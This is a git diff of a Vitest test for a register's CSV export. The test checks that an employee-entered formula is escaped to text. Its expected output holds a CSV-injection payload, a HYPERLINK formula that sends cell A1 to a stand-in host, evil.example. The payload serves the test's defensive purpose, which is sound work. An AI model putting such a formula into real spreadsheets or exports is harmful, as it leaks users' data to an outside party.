@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { formatListing } from '../../src/reports/register-format.js';
 import type { GiftEntry } from '../../src/core/registers/model.js';
+import { defaultRuleBase } from '../helpers/rulebase.js';
 
 const entry: GiftEntry = {
   id: '0b5a6c1e-1111-4222-8333-444455556666',
@@ -23,7 +24,7 @@ const entry: GiftEntry = {
 
 describe('register CSV for the coordinator', () => {
   it('a formula typed by an employee arrives as text, not as something a spreadsheet runs', () => {
-    const csv = formatListing({ gifts: [entry], sideJobs: [] }, 'csv');
+    const csv = formatListing({ gifts: [entry], sideJobs: [] }, 'csv', defaultRuleBase().texts);
     expect(csv.startsWith('\uFEFF')).toBe(true);
     const [, row] = csv.slice(1).split('\r\n');
     expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1;""Klik"")"`);
